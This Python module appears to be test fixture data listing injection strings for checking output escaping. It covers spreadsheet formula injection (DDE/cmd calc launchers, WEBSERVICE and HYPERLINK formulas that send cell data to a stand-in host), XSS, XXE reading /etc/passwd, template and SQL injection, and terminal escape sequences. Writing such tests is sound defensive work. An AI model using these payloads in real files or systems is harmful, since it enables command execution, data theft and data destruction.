"""Texts that a spreadsheet, a browser or a terminal could take for more than texts."""

FORMULAS = (
    *("=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "|=1+1", "%=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "==1", "-", "+", "@", "|", "%"),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"1\")",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    '=HYPERLINK("http://a.example/?x="&A1,"Report")',
    '=WEBSERVICE("http://a.example/"&A1)',
    "=IMPORTXML(CONCAT(\"http://a.example/\",A1),\"//a\")",
    '=IMAGE("http://a.example/a.png")',
    "='file:///etc/passwd'#$passwd.A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "{=1+1}",
    "#N/A",
    "#DIV/0!",
    "#REF!",
    "TRUE",
    "_x003D_1+1",
    "_x000D__x000A_=1+1",
    "_xlfn.WEBSERVICE(1)",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style></title><b>bold</b>",
    "javascript:alert(1)",
    "&lt;i&gt; &amp; &#61;1+1",
    "</t></is></c><c><f>1+1</f></c>",
    "<![CDATA[<f>1+1</f>]]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "{{7*7}}",
    "{% for x in y %}",
    "{0} {cost} {channel.__class__}",
    "%s %d %(name)s %%",
    "${7*7} #{7*7}",
    '"; DROP TABLE held_0; --',
    "[bold red]x[/bold red] [link=http://a.example]y[/link]",
    '\\u003d1 \\" \\',
)
SIGNALS = ("\x1b[2J", "\x1b]0;title\x07", "\x1b[31mred", "\x9b2J", "a\x08\x08b", "a\x00b"[:1] + "\x7f")
LOOKS = ("\u202e=1+1", "\u200b=1+1", "\ufeff=1+1", "a\u2028=1+1", "a\x0b=1+1", "a\x0c=1+1")
AROUND = ("{}", " {}", "\t{}", "'{}", '"{}"', "\n{}", "a\n{}", "\u00a0{}")

BARE = (*FORMULAS, *MARKUP, *SIGNALS, *LOOKS)
PAYLOADS = tuple(dict.fromkeys(around.format("") + each if False else around.replace("{}", each) for around in AROUND for each in BARE))
